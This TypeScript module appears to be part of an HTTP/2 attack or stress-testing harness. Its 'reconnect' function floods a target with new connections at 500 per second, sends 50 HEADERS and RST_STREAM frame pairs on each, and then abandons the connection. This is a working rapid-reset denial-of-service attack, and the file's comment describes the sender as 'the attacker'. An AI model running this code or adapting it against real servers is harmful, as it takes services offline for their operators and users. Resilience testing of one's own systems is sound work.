import { headers, reset } from '../frames.ts';
import { connectBlock } from '../hpack.ts';
import type { Job, Outcome, SessionOutcome } from '../job.ts';
import { RawSession } from '../raw-session.ts';

const perSecond = 500;
/** Resets on each connection, which then goes. */
const resets = 50;
/** Most connections that are open at once: a target that holds them unread must not use up the attacker's own. */
const maxOpen = 1000;

/** New connections at 500 a second, each with resets, and then gone. */
export async function reconnect(job: Job): Promise<Outcome> {
  const block = connectBlock(job.authority);
  const flood = Buffer.concat(
    Array.from({ length: resets }, (_, i) => [headers(2 * i + 1, block), reset(2 * i + 1)]).flat(),
  );
  const ended: SessionOutcome[] = [];
  const open = new Set<Promise<void>>();
  let unopened = 0;
  const one = async () => {
    const session = await RawSession.open(job);
    if (!session) {
      unopened++;
      return;
    }
    session.begin();
    await session.send(flood);
    session.sent += resets;
    session.leave();
    ended.push(session.outcome());
  };
  const begun = performance.now();
  for (let made = 0; ;) {
    const passed = performance.now() - begun;
    if (passed > job.seconds * 1000) break;
    for (; made < (passed / 1000) * perSecond && open.size < maxOpen; made++) {
      const running: Promise<void> = one().finally(() => open.delete(running));
      open.add(running);
    }
    await new Promise((resolve) => setTimeout(resolve, 4));
  }
  return { sessions: ended, unopened: unopened + open.size, millis: performance.now() - begun };
}
